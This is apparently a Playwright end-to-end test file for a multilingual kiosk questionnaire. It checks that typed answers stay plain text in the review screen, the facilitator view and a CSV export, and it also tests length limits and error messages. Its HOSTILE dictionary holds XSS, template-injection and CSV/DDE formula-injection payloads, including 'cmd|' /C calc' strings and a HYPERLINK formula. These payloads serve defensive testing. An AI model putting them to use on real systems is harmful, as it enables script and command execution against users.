"""Whatever people type is text, on every screen and in every file."""

import csv
import io

import pytest
from playwright.sync_api import expect

from support.seat import Seat
from support.wording import TAGS, wording

HOSTILE = {
    "html": "<img src=x onerror=\"document.title='gehackt'\"><script>document.title='gehackt'</script>&amp;</textarea>",
    "template": "{{code}} {{{participant}}} ${7*7} {{#session}}",
    "formula": "=HYPERLINK(\"http://example.org/?x=\"&A1;\"klik\")",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "emoji": "👨‍👩‍👧‍👦 familie 🏠🇪🇷",
    "direction": "\u202egnirts\u202c \u2067rtl\u2069 نعم yes",
    "long": ("woord " * 165 + "einde").ljust(1000, "!"),
    "long-word": "a" * 1000,
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_text_is_only_text(kiosk, facilitator, kind):
    """It shows as it was typed, on the step, in the review and at the facilitator; nothing in it runs."""
    text = HOSTILE[kind]
    shown = " ".join(text.split())
    dialogs = []
    for page in (kiosk.page, facilitator.page):
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    seat = Seat(kiosk.server).join("nl").answer_all()
    seat.hand_over(kiosk.page.context)
    kiosk.words = wording("nl")
    kiosk.page.goto(f"{kiosk.base}/step/need?from=review")
    kiosk.write(text)
    kiosk.go_on()
    kiosk.expect_screen("review")
    answer = kiosk.review_item(kiosk.words.question("need")).locator(".reply span[data-clip], .reply p > span")
    expect(answer).to_have_text(shown)
    assert answer.evaluate("element => [...element.querySelectorAll(':not(.w)')].length") == 0
    title = kiosk.page.title()
    kiosk.change(kiosk.words.question("need"))
    kiosk.expect_question("need")
    expect(kiosk.answer_field).to_have_value(text)
    kiosk.go_on()
    kiosk.expect_screen("review")
    assert kiosk.page.title() == title
    assert kiosk.page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    kiosk.tap(kiosk.send)
    kiosk.expect_screen("done")

    quote = facilitator.contribution(text).locator("blockquote")
    expect(quote.first).to_have_text(shown)
    assert quote.first.evaluate("element => element.children.length") == 0
    assert facilitator.page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    assert facilitator.page.title().startswith("Assen")
    assert dialogs == []

    rows = csv.reader(io.StringIO(facilitator.download("contributions.csv").decode("utf-8-sig"), newline=""))
    cells = [cell for row in rows for cell in row]
    assert any(text in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("tag", TAGS)
def test_a_text_that_is_too_long_is_refused_and_kept(kiosk, tag):
    """More than a thousand characters: the screen says so in the person's language and keeps every one of them."""
    kiosk.sit_down(tag)
    text = "ሀ" * 1001
    kiosk.write(text)
    kiosk.go_on()
    expect(kiosk.error).to_contain_text(wording(tag).screen("error.tooLong", count=1000))
    expect(kiosk.answer_field).to_have_value(text)
    kiosk.page.keyboard.press("Tab")
    kiosk.tap(kiosk.answer_field)
    kiosk.page.keyboard.press("ControlOrMeta+End")
    kiosk.page.keyboard.press("Backspace")
    kiosk.go_on()
    kiosk.expect_question("why")


def test_a_thousand_family_emoji_are_a_thousand_characters(kiosk):
    """Characters are counted as people count them: an emoji made of many parts is one."""
    kiosk.sit_down("nl")
    kiosk.write("👨‍👩‍👧‍👦" * 1000)
    kiosk.go_on()
    kiosk.expect_question("why")


@pytest.mark.parametrize("tag", TAGS)
def test_an_answer_that_is_missing_is_asked_for_in_the_language(kiosk, tag):
    """Going on without an answer, choosing too many: the screen says what to do, and keeps what was chosen."""
    kiosk.sit_down(tag)
    words = wording(tag)
    kiosk.go_on()
    expect(kiosk.error).to_contain_text(words.screen("error.empty"))
    kiosk.skip_question()
    kiosk.expect_question("goal")
    kiosk.choose("house", "language", "work", "study")
    kiosk.go_on()
    expect(kiosk.error).to_contain_text(words.screen("error.tooMany", "few" if tag == "ar" else "other", count=3))
    assert kiosk.chosen() == ["house", "language", "work", "study"]
